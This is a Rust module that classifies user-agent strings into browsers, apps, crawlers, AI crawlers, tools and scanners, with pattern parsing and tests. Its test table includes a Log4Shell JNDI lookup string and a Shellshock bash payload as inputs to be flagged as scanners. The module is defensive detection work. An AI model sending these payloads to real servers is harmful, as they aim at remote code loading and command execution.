//! What kind of program a user agent is: patterns over what it says of itself.
//!
//! A user agent can say anything; this is what it claims. No list is complete, so that a file of the
//! user's can go before [ours](OURS), in the same form.

use std::fmt;
use std::str::FromStr;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use thiserror::Error;

/// The patterns that are shipped.
const OURS: &str = include_str!("user_agents.txt");

/// The kind of program that a user agent says it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum UserAgentClass {
    /// A browser that a person uses.
    Browser,
    /// Another program that a person uses.
    App,
    /// A program that reads pages for a search engine, a preview, an archive or a feed.
    Crawler,
    /// A program that reads pages for a language model.
    AiCrawler,
    /// A library, a command line program, a browser without a screen or a health check.
    Tool,
    /// A program that looks for weaknesses, or an attack in the place of a user agent.
    Scanner,
    /// Nothing was said.
    Empty,
    /// Something that no pattern knows.
    Other,
}

impl UserAgentClass {
    /// Every class.
    pub const ALL: [Self; 8] = [
        Self::Browser,
        Self::App,
        Self::Crawler,
        Self::AiCrawler,
        Self::Tool,
        Self::Scanner,
        Self::Empty,
        Self::Other,
    ];

    /// The class in SQL and in files.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Browser => "browser",
            Self::App => "app",
            Self::Crawler => "crawler",
            Self::AiCrawler => "ai_crawler",
            Self::Tool => "tool",
            Self::Scanner => "scanner",
            Self::Empty => "empty",
            Self::Other => "other",
        }
    }

    const fn is_program(self) -> bool {
        matches!(self, Self::Crawler | Self::AiCrawler | Self::Tool)
    }
}

impl fmt::Display for UserAgentClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A line that is no pattern.
#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum PatternError {
    /// A class that there is not, or no pattern behind it.
    #[error(
        "line {line}: expected a class ({}) and a pattern, found `{found}`",
        classes()
    )]
    Line {
        /// Its number, from 1.
        line: usize,
        /// Its text, shortened.
        found: String,
    },
    /// More or longer patterns than can be searched for at once.
    #[error("{0}")]
    TooMany(String),
}

fn classes() -> String {
    let names = UserAgentClass::ALL.map(UserAgentClass::name);
    names.join(", ")
}

/// A pattern beside its text.
#[derive(Debug, Clone, Copy)]
struct Pattern {
    class: UserAgentClass,
    /// Whether it may begin inside a word, and end in one.
    is_open: (bool, bool),
}

/// A list of patterns, to be searched for at once.
#[derive(Debug)]
struct Patterns {
    patterns: Vec<Pattern>,
    searcher: AhoCorasick,
}

/// Where a pattern matches.
#[derive(Debug, Clone, Copy)]
struct Found {
    start: usize,
    end: usize,
    /// Its number in the list.
    pattern: usize,
}

impl FromStr for Patterns {
    type Err = PatternError;

    fn from_str(text: &str) -> Result<Self, PatternError> {
        let mut patterns = Vec::new();
        let mut texts = Vec::new();
        for (index, line) in text.lines().enumerate() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let (pattern, text) = parse(line).ok_or_else(|| PatternError::Line {
                line: index + 1,
                found: line.chars().take(80).collect(),
            })?;
            patterns.push(pattern);
            texts.push(text);
        }
        let searcher = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(texts)
            .map_err(|error| PatternError::TooMany(error.to_string()))?;
        Ok(Self { patterns, searcher })
    }
}

fn parse(line: &str) -> Option<(Pattern, &str)> {
    let (class, text) = line.split_once(char::is_whitespace)?;
    let mut classes = UserAgentClass::ALL.into_iter();
    let class = classes.find(|known| known.name() == class)?;
    let text = text.trim();
    let (opened, text) = match text.strip_prefix('*') {
        Some(rest) => (true, rest),
        None => (false, text),
    };
    let (closed, text) = match text.strip_suffix('*') {
        Some(rest) => (true, rest),
        None => (false, text),
    };
    let is_open = (opened, closed);
    (!text.is_empty()).then_some((Pattern { class, is_open }, text))
}

impl Patterns {
    /// The matches that count: those at borders of words, and not inside of longer ones.
    fn find(&self, text: &str, found: &mut Vec<Found>) {
        found.clear();
        let bytes = text.as_bytes();
        for hit in self.searcher.find_overlapping_iter(bytes) {
            let pattern = hit.pattern().as_usize();
            let (start, end) = (hit.start(), hit.end());
            let (opened, closed) = self.patterns[pattern].is_open;
            if (opened || is_border(bytes, start)) && (closed || is_border(bytes, end)) {
                found.push(Found {
                    start,
                    end,
                    pattern,
                });
            }
        }
        // Longer ones first: then one look at those before says whether a match lies in one.
        found.sort_unstable_by_key(|hit| (hit.start, std::cmp::Reverse(hit.end), hit.pattern));
        let mut reached = 0;
        found.retain(|hit| {
            let is_inside = hit.end <= reached;
            reached = reached.max(hit.end);
            !is_inside
        });
    }
}

impl Patterns {
    /// The program that matches name: names before words that may be part of one, then the first.
    fn program(&self, found: &[Found]) -> Option<UserAgentClass> {
        let patterns = found.iter().map(|hit| self.patterns[hit.pattern]);
        let mut programs = patterns.filter(|pattern| pattern.class.is_program());
        let first = programs.next()?;
        let is_name = |pattern: &Pattern| !pattern.is_open.0;
        let name = [first].into_iter().chain(programs).find(is_name);
        Some(name.unwrap_or(first).class)
    }
}

/// Whether no word goes on at a place: there are not two letters or digits side by side.
fn is_border(bytes: &[u8], at: usize) -> bool {
    let is_word = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
    !(at > 0 && is_word(bytes.get(at - 1)) && is_word(bytes.get(at)))
}

/// Tells user agents apart.
#[derive(Debug)]
pub(super) struct UserAgents {
    ours: Patterns,
    theirs: Option<Patterns>,
}

impl UserAgents {
    /// Those that are shipped, and those of a text of the user's before them.
    pub(super) fn new(theirs: Option<&str>) -> Result<Self, PatternError> {
        Ok(Self {
            ours: OURS.parse()?,
            theirs: theirs.map(str::parse).transpose()?,
        })
    }

    /// What tells the shipped patterns from those of another version.
    pub(super) const fn shipped() -> &'static str {
        OURS
    }

    /// The class of a user agent.
    pub(super) fn class(&self, text: Option<&str>) -> UserAgentClass {
        let text = text.unwrap_or_default().trim();
        if text.is_empty() || text == "-" {
            return UserAgentClass::Empty;
        }
        let mut found = Vec::new();
        if let Some(theirs) = &self.theirs {
            theirs.find(text, &mut found);
            if let Some(first) = found.iter().min_by_key(|hit| hit.pattern) {
                return theirs.patterns[first.pattern].class;
            }
        }
        self.ours.find(text, &mut found);
        let classes = || {
            found
                .iter()
                .map(|hit| self.ours.patterns[hit.pattern].class)
        };
        let has = |class| classes().any(|found| found == class);
        if has(UserAgentClass::Scanner) {
            UserAgentClass::Scanner
        } else if let Some(program) = self.ours.program(&found) {
            program
        } else if has(UserAgentClass::App) {
            UserAgentClass::App
        } else if has(UserAgentClass::Browser) {
            UserAgentClass::Browser
        } else {
            UserAgentClass::Other
        }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn class(text: &str) -> &'static str {
        UserAgents::new(None).unwrap().class(Some(text)).name()
    }

    #[test]
    fn user_agents_are_what_they_say() {
        let agents = UserAgents::new(None).unwrap();
        for (text, expected) in [
            ("", "empty"),
            (" - ", "empty"),
            (
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/126.0.0.0 Safari/537.36",
                "browser",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
                "browser",
            ),
            (
                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
                "browser",
            ),
            ("Lynx/2.9.0 libwww-FM/2.14", "browser"),
            ("w3m/0.5.3", "browser"),
            (
                "Mozilla/5.0 (Linux; Android 9; CUBOT_P20) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/80.0 Mobile Safari/537.36",
                "browser",
            ),
            (
                "Mozilla/5.0 (Linux; Android 13; Pixel 7; wv) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Version/4.0 Chrome/120.0 Mobile Safari/537.36",
                "app",
            ),
            ("Shop/3.1 CFNetwork/1490.0.4 Darwin/23.2.0", "app"),
            ("okhttp/4.12.0", "app"),
            ("Dalvik/2.1.0 (Linux; U; Android 13)", "app"),
            (
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "crawler",
            ),
            (
                "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
                "crawler",
            ),
            (
                "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                "crawler",
            ),
            (
                "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
                "crawler",
            ),
            ("SomethingNew Crawler", "crawler"),
            (
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; \
                 +https://openai.com/gptbot)",
                "ai_crawler",
            ),
            (
                "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
                "ai_crawler",
            ),
            (
                "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                "browser",
            ),
            ("Mozilla/5.0 (compatible; SomethingElse/1.0)", "crawler"),
            ("CCBot/2.0 (https://commoncrawl.org/faq/)", "ai_crawler"),
            ("curl/8.5.0", "tool"),
            ("python-requests/2.31.0", "tool"),
            ("Go-http-client/1.1", "tool"),
            ("Java/17.0.2", "tool"),
            (
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                "tool",
            ),
            (
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 HeadlessChrome/120.0 Safari/537.36",
                "tool",
            ),
            ("Scrapy/2.11 (+https://scrapy.org)", "tool"),
            ("kube-probe/1.29", "tool"),
            ("sqlmap/1.7#stable (https://sqlmap.org)", "scanner"),
            ("Mozilla/5.0 (Nikto/2.1.6)", "scanner"),
            ("${jndi:ldap://203.0.113.9/a}", "scanner"),
            ("() { :; }; /bin/bash -c id", "scanner"),
            ("Mozilla/5.0", "other"),
            ("ShopBackend/1.0", "other"),
            // Not in the middle of other words.
            ("Javascriptable/1.0", "other"),
            ("Robotics", "crawler"),
            ("Abbott/1.0", "other"),
        ] {
            assert_eq!(agents.class(Some(text)).name(), expected, "{text}");
        }
        assert_eq!(agents.class(None), UserAgentClass::Empty);
    }

    #[test]
    fn a_list_of_the_users_goes_before_ours() {
        let theirs = "# ours\n\napp shopbackend\ntool mozilla*\nbrowser *zill*\n";
        let agents = UserAgents::new(Some(theirs)).unwrap();
        for (text, expected) in [
            ("ShopBackend/1.0", "app"),
            ("Mozilla/5.0 (compatible; Googlebot/2.1)", "tool"),
            ("shopbackend mozilla", "app"),
            ("Godzilla", "browser"),
            ("curl/8.5.0", "tool"),
        ] {
            assert_eq!(agents.class(Some(text)).name(), expected, "{text}");
        }
    }

    #[test]
    fn a_line_that_is_no_pattern_is_named() {
        for (text, line) in [
            ("tool curl\nbot x", 2),
            ("tool", 1),
            ("tool *", 1),
            ("tool **", 1),
        ] {
            let error = UserAgents::new(Some(text)).unwrap_err();
            assert!(
                matches!(&error, PatternError::Line { line: found, .. } if *found == line),
                "{text}: {error}"
            );
        }
        insta::assert_snapshot!(
            UserAgents::new(Some("robot x")).unwrap_err(),
            @"line 1: expected a class (browser, app, crawler, ai_crawler, tool, scanner, empty, other) and a pattern, found `robot x`"
        );
    }

    #[test]
    fn every_pattern_stands_once() {
        let mut seen = std::collections::BTreeSet::new();
        for line in OURS
            .lines()
            .filter(|line| !line.starts_with('#') && !line.is_empty())
        {
            let (_, pattern) = line.split_once(' ').unwrap();
            assert_eq!(pattern, pattern.to_ascii_lowercase());
            assert!(seen.insert(pattern), "{pattern}");
        }
    }

    proptest! {
        #[test]
        fn any_text_has_a_class(text in "\\PC{0,300}") {
            class(&text);
        }

        #[test]
        fn what_a_pattern_names_is_not_other(number in 0_usize..1000, before in "[ (;/]{0,3}", after in "[/ ;)]{0,3}") {
            let lines: Vec<&str> = OURS.lines().filter(|line| parse(line).is_some()).collect();
            let (_, text) = parse(lines[number % lines.len()]).unwrap();
            prop_assert_ne!(class(&format!("{before}{text}{after}")), "other");
        }
    }
}
